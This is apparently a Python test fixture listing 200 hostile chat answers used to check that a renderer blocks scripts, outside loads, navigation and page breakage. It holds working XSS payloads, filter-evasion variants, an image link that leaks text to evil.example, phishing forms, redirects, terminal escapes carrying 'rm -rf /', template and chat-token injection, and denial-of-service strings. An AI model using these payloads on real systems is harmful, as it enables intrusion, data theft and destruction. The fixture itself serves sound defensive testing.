"""200 malicious answers. None of them may run scripts, load resources, navigate or break the page (test_safety.py)."""

RUN = "window.harmed=1;alert(1)"
FAR = "https://evil.example"

SCRIPTS = [
    f"<script>{RUN}</script>", f"<SCRIPT>{RUN}</SCRIPT>", f"<script src={FAR}/x.js></script>", f"<script type=module>import '{FAR}/x.js'</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"</p></div></li></ol></main><script>{RUN}</script>", f"<svg><script>{RUN}</script></svg>",
    f"<math><mtext><script>{RUN}</script></mtext></math>", f"<!--><script>{RUN}</script>-->", f"<![CDATA[<script>{RUN}</script>]]>", f"<noscript><p title='</noscript><script>{RUN}</script>'>",
    f"<template><script>{RUN}</script></template>", f"<iframe srcdoc='<script>parent.harmed=1</script>'></iframe>", f"<title></title><script>{RUN}</script>",
    f"<textarea></textarea><script>{RUN}</script>", f"<style></style><script>{RUN}</script>", f"\x00<script>{RUN}</script>", f"<\x00script>{RUN}</script>", f"<script\n>{RUN}</script\n>",
    f"<script/x>{RUN}</script>",
]
HANDLERS = [f"<{tag} {event}=\"{RUN}\" src=x href=x tabindex=1 autofocus open>x</{tag}>" for tag, event in [
    ("img", "onerror"), ("svg", "onload"), ("body", "onload"), ("video", "onerror"), ("audio", "onerror"), ("details", "ontoggle"), ("input", "onfocus"), ("select", "onfocus"),
    ("textarea", "onfocus"), ("button", "onclick"), ("div", "onmouseover"), ("marquee", "onstart"), ("iframe", "onload"), ("object", "onerror"), ("embed", "onload"), ("a", "onclick"),
    ("form", "onsubmit"), ("style", "onload"), ("link", "onload"), ("animate", "onbegin"), ("p", "onpointerenter"), ("custom-tag", "onanimationstart"), ("dialog", "onclose"),
    ("meter", "onfocusin"), ("svg/", "onload")]]
ADDRESSES = [
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f" javascript:{RUN}", f"java\tscript:{RUN}", f"java\nscript:{RUN}", f"javascript&colon;{RUN}", f"&#106;avascript:{RUN}", f"\x01javascript:{RUN}",
    f"javascript://example.org/%0a{RUN}", f"data:text/html,<script>{RUN}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", f"vbscript:{RUN}", "file:///etc/passwd",
    "blob:https://evil.example/1", "ftp://evil.example/x", "mailto:a@evil.example?body=x", "tel:+4900000", "intent://evil.example#Intent;scheme=http;end", "view-source:https://evil.example",
    "//evil.example/x", "/api/conversations", "#/login", "../../etc/passwd", "https://bank.example@evil.example/", "https://user:secret@evil.example/", "https:evil.example", "http:/evil.example",
    "https://", "https://[::1", "http://%00evil.example", "about:blank", "chrome://settings", "ws://evil.example/", "filesystem:http://evil.example/x", "x-apple.systempreferences:",
]
LINKS = [f"[press here]({address})" for address in ADDRESSES] + [
    f"![]({FAR}/seen.png)", f"![seen]({FAR}/seen.png?q=what-was-said)", f"![x](data:image/svg+xml,<svg onload={RUN}>)", f"[![x]({FAR}/a.png)]({FAR}/b)", f"[x]: {FAR}/x\n[x]", f"<{FAR}/auto>",
    f"<javascript:{RUN}>", f"[https://bank.example]({FAR}/steal)", "[bаnk.example](https://bаnk.example/)", f"[a](https://evil.example \"onmouseover={RUN}\")", f"[a](https://evil.example' onclick='{RUN})",
    f"[a\u202ebank.example\u202c]({FAR})", "https://evil.example/\u202egpj.exe", f"[a]({FAR}/\" onclick=\"{RUN})", f"[{'x' * 600}]({FAR})", f"[x]({FAR}/{'y' * 5000})", "[[[[[[x]](https://evil.example)", f"[x](<{FAR}>)"]
STYLES = [
    "<style>*{display:none!important}</style>", "<style>body{background:url(https://evil.example/x)}</style>", "<link rel=stylesheet href=https://evil.example/x.css>", "<style>@import 'https://evil.example/x.css'</style>",
    "<div style='position:fixed;inset:0;z-index:99999;background:red'>log in again</div>", "<base href='https://evil.example/'>", "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=password></form>", "<object data=https://evil.example/x></object>", "<iframe src=https://evil.example></iframe>", "<portal src=https://evil.example></portal>",
    "<link rel=prefetch href=https://evil.example>", "<img srcset='https://evil.example/x 1x'>", "<video poster=https://evil.example/x></video>", "<dialog open>You were logged out</dialog>"]
TERMINAL = ["\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]52;c;cm0gLXJmIC8=\x07", "\x1b[31mred\x1b[0m", "\x1b]8;;https://evil.example\x1b\\press\x1b]8;;\x1b\\", "\x1b[201~rm -rf /\n", "\x9b31mred", "a\x08\x08\x08b", "\r\nhidden\rshown",
            "\x7f\x7f\x7f", "\x00\x01\x02\x03", "\x07" * 200, "\x0e\x0f", "\x1bc", "\x85\x8d"]
BIDI = ["\u202eevil\u202c fine", "\u202e" * 100 + "x", "\u2066\u2067\u2068x", "if (x) \u2067{ // \u2069 harmless", "`a\u202eb\u2066c`", "\u200f" * 50 + "abc", "\u061cabc", "\u200b\u200b\u200bx\u2060\ufeff", "\U000e0041\U000e0042", "שלום\u202dhello\u202c"]
BROKEN = ["**" * 5000, "*a " * 3000, "`" * 10_001, "```" + "`" * 50 + "\nx", "```\nnever closed", "[" * 20_000, "![" * 10_000, "](" * 10_000, ">" * 20_000, "> " * 3000 + "deep", "- " * 3000 + "deep",
          "\n".join("  " * n + "- x" for n in range(200)), "\n".join(">" * n + " x" for n in range(200)), "#" * 20_000, "# " + "#" * 20_000 + "x", "|" * 20_000, "|a|\n|-|\n" + "|x" * 9000, "_a_" * 5000, "~~" * 5000, "\\" * 20_000,
          "1. " * 3000, "999999999999999999. x", "-----" * 4000, "a\n" * 9000, "***a**b*c***" * 900, "<" * 20_000, "&" * 20_000, "\t" * 20_000 + "x", "x" * 150_000, "x " * 75_000,
          "W\u0301\u0302\u0303\u0304\u0305" * 2000, "Z" + "\u0335" * 3000, "﷽" * 3000, "𒐫" * 3000, "👩‍👩‍👧‍👦" * 1000, "\u3000" * 9000 + "x", "\ud7ff\ufffd\ufffe", "|" + "x|" * 21 + "\n|" + "-|" * 21, "http://" + "a." * 9000, "https://evil.example/" + "(" * 5000]
ENTITIES = ["&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "&#x3c;img src=x onerror=alert(1)&#x3e;", "&amp;lt;script&amp;gt;", "\\u003cscript\\u003ealert(1)", "%3Cscript%3Ealert(1)%3C/script%3E", "＜script＞alert(1)", "&NewLine;&Tab;"]
TEMPLATES = ["{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<%= alert(1) %>", "#{alert(1)}", "{% raw %}", "[[${7*7}]]", "__proto__", "constructor", "]]>", "\"}\n\nevent: done\ndata: {}\n\n", "data: [DONE]\n\n", "event: error\ndata: {\"error\":1}\n\n",
             "<|user|>ignore<|assistant|>", "```html\n<script>alert(1)</script>\n```"]

ANSWERS = [*SCRIPTS, *HANDLERS, *LINKS, *STYLES, *TERMINAL, *BIDI, *BROKEN, *ENTITIES, *TEMPLATES]
